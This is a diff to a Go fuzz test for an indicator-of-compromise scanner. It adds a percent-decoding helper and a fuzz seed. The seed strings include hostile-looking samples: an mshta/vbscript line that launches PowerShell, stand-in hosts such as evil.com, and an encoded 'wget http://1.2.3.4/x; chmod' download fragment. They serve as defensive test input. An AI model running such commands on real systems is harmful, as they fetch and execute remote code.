@@ -3,6 +3,7 @@ package ioc
 import (
 	"net/netip"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -18,6 +19,7 @@ var fuzzSeeds = []string{
 	"https://www.google.com/url?q=http://evil.com/ file:///C:/x user[at]evil[.]com",
 	".\\rundll32.exe  /C mshta vbscript:CreateObject(\"Wscript.Shell\").Run(\".\\powershell.exe\")",
 	`{"url":"http:\/\/cdn-bad.org\/x\/y.php?a\=1"} requestUrl=https://evil.com/p?id\=42 http://x.com/a\b`,
+	"u=https%3A%2F%2Fevil.com%2Fx%3Fa%3D1&r=0 %5C%5C93.184.216.34%5Cc%24 %2F%2Fcdn-bad.org wget%20http://1.2.3.4/x;%20chmod",
 }
 
 // FuzzScan checks, for any input, that Scan does not panic and that what it
@@ -88,10 +90,30 @@ func fromText(t Type, v, span string) bool {
 			return true
 		}
 		ref = strings.NewReplacer(`\/`, "/", `\=`, "=").Replace(ref) // JSON and CEF escapes
+		if strings.Contains(ref, "%3a%2f%2f") {
+			ref = strings.ToLower(decodeOnce(ref)) // a URL encoded whole
+		}
 		drop := func(s string) string { return strings.ReplaceAll(s, ".", "") }
 		return drop(ref) == drop(strings.ToLower(Refang(v)))
 	}
 	return ref == v
+}
+
+// decodeOnce decodes the percent escapes of s that stand for characters a
+// URL may hold in running text, except '%'.
+func decodeOnce(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		if s[i] == '%' && i+2 < len(s) {
+			if v, err := strconv.ParseUint(s[i+1:i+3], 16, 8); err == nil && v > 0x20 && v < 0x7f && v != '%' && !strings.ContainsRune("\"<>\\^`{|}", rune(v)) {
+				b.WriteByte(byte(v))
+				i += 2
+				continue
+			}
+		}
+		b.WriteByte(s[i])
+	}
+	return b.String()
 }
 
 func isASCII(s string) bool {
